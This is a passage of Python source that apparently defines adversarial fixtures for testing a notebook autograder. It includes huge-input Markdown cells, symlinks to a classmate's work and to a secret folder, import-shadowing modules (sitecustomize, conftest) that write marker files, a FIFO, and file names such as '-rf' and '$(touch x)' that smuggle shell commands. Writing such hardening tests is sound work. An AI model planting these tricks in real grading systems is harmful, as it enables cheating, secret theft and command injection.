    "a lexer": _prose(*[_fenced("easytrieve", "\t" * 9_000)] * 3),
    "a listed lexer": _prose(_fenced("python", " \n" * 9_000)),
    "a quoted lexer": _prose("> " + _fenced("py", ">  \n" * 6_000)),
    "brackets and a picture": _prose("[" * 300 + PIXELS),
    "one picture often": _prose("![a](attachment:a)" * 1_000),
    "emphasis": _prose(*["*a **a _a __a " * 1_400] * 9),
    "quotations": _prose(*["> " * 9_900] * 9),
    "code between": _prose(*[" \n" * 40_000] * 5),
}
EDITS = (
    forged_points,
    graded_solution,
    more_checks,
    duplicates,
    swapped,
    no_checks,
    old_report,
    other_kernel,
    odd_metadata,
    active_prose,
)


# --- attacks on the folder -----------------------------------------------------------------------


def _notebook(folder):
    return folder / f"{folder.name}.ipynb"


def link_to_a_classmate(folder, fill):
    """The notebook is a link to a right one."""
    _notebook(folder).unlink()
    _notebook(folder).symlink_to(
        fill("@ROOT@/classroom/submitted/a-honest/@CHAPTER@/@CHAPTER@.ipynb")
    )


def link_to_the_secret(folder, fill):
    """The notebook is a link to the secret; another link leads to a folder."""
    _notebook(folder).unlink()
    _notebook(folder).symlink_to(fill("@ROOT@/classroom/secret"))
    (folder / "all").symlink_to(fill("@BAIT@"))


def modules_beside(folder, fill):
    """Modules with the names of others lie beside the notebook."""
    for name in ("numpy", "sitecustomize", "nbgrader_config", "conftest", "mlp_helpers"):
        (folder / f"{name}.py").write_text(fill("open('@BAIT@/@MARK@', 'w')"))


def pipe(folder, fill):
    """The notebook is a pipe, from which nothing ever comes."""
    _notebook(folder).unlink()
    os.mkfifo(_notebook(folder))


def folder_as_notebook(folder, fill):
    """The notebook is a folder."""
    _notebook(folder).unlink()
    _notebook(folder).mkdir()


def odd_names(folder, fill):
    """Files with names that break scripts."""
    for name in ("-rf", "a\nb.ipynb", "$(touch x)", "..ipynb", "é\udcff"):
        (folder / name).write_text("{}")


def own_gradebook(folder, fill):
    """Files that look like the grader's own."""
    (folder / "gradebook.db").write_bytes(b"SQLite format 3\0")
    (folder / "timestamp.txt").write_text("1970-01-01 00:00:00 UTC\n" * 10**5)
    (folder / ".nbgrader.log").symlink_to(fill("@BAIT@/victim"))


def time_beyond_counting(folder, fill):
    """The time of handing in is a number that the reader of times stumbles over."""
    (folder / "timestamp.txt").write_text("9" * 30 + "h")


PLANTS = (
    time_beyond_counting,
    link_to_a_classmate,
    link_to_the_secret,
    modules_beside,
    pipe,
    folder_as_notebook,
    odd_names,
    own_gradebook,
)


# --- all of them ---------------------------------------------------------------------------------


def _dedent(source):
    """Take away the indentation that the table above gives a cell."""
    lines = source.strip("\n").splitlines()
    margin = min(len(line) - len(line.lstrip()) for line in lines if line.strip())
    return "\n".join(line[margin:] for line in lines)


def _slug(text):
    return "".join(c if c.isalnum() else "-" for c in text)


ATTACKS = (
    *(
        Attack(_slug(f"{kind} {name}"), kind, _dedent(source), pays=name in PAYING)
        for kind, cells in CELLS.items()
        for name, source in cells.items()
    ),
    *(Attack(_slug(f"metadata {edit.__name__}"), "metadata", edit=edit) for edit in EDITS),
    *(Attack(_slug(f"judging {name}"), "judging", edit=edit) for name, edit in PROSE.items()),
    *(Attack(_slug(f"folder {plant.__name__}"), "folder", plant=plant) for plant in PLANTS),
)
